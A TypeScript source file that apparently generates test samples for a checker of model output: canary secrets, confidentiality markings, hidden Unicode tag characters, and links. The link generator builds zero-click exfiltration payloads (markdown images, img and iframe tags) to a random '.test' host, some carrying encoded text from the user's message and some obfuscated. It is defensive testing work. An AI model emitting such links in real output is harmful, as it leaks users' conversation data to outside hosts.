import type { AnswerKind } from '#kernel/duties.ts'
import type { Category, DataClass } from '#kernel/label.ts'
import { makeCanary } from './canary.ts'
import type { Dice } from './dice.ts'

/** Something a model says that somebody may not want to read, and what it is. */
export interface Spoken {
  readonly kind: AnswerKind
  readonly text: string
  /** What is looked for in what the caller was shown. */
  readonly needle: string
  /** What it makes of the label of the answer; null: nothing that is counted on. */
  readonly class: DataClass | null
  readonly categories: readonly Category[]
}

const LOWER = 'bcdfghjklmnpqrstvwxz'

/** Made of what was sent now and then: a link may carry it away. */
export function makeSpoken(dice: Dice, sent: string): Spoken {
  switch (dice.below(8)) {
    case 0:
      return marking(dice)
    case 1:
      return invisible(dice)
    case 2:
    case 3:
      return link(dice, sent)
    default:
      return value(dice)
  }
}

/** A secret, or something about somebody, that no question held. */
function value(dice: Dice): Spoken {
  const { text, class: of, categories } = makeCanary(dice)
  const kind = categories.includes('credentials') ? 'secrets' : 'personal'
  return { kind, text, needle: text, class: of, categories }
}

function marking(dice: Dice): Spoken {
  const text = dice.one([
    'TLP:RED',
    'STRICTEMENT CONFIDENTIEL',
    'TOP SECRET',
    'COMPANY CONFIDENTIAL',
  ])
  // on a line of its own: in a question about markings it is none
  return { kind: 'markings', text: `\n\n${text}\n\n`, needle: text, class: null, categories: [] }
}

/** Letters of the block that only machines read. */
function invisible(dice: Dice): Spoken {
  const text = Array.from({ length: 6 }, () => String.fromCodePoint(0xe0061 + dice.below(26))).join(
    '',
  )
  return { kind: 'invisible', text: `plain${text}text`, needle: text, class: null, categories: [] }
}

/** Fetched without a click, or with the question in it. */
function link(dice: Dice, sent: string): Spoken {
  const host = `${dice.letters(LOWER, 12)}.test`
  const [carried = 'abc'] = /[a-z]{4,12}(?: [a-z]{2,12}){3,5}/.exec(sent) ?? []
  const said = encodeURIComponent(carried)
  const base64 = Buffer.from(carried).toString('base64url')
  const text = dice.one([
    `![x](https://${host}/p.png)`,
    `![x](https://${host}/p.png?d=${said})`,
    `<img src="https://${host}/x?d=${base64}">`,
    `<iframe src=//${host}/x></iframe>`,
    `![x][r]\n\n[r]: https://${host}/?q=${said}`,
    `<a href="https://user:pw@${host}/">here</a>`,
    `![x](&#104;ttps://${host}/p.png)`,
    `![x](https\\://${host}/p.png)`,
  ])
  return { kind: 'links', text, needle: host, class: null, categories: [] }
}
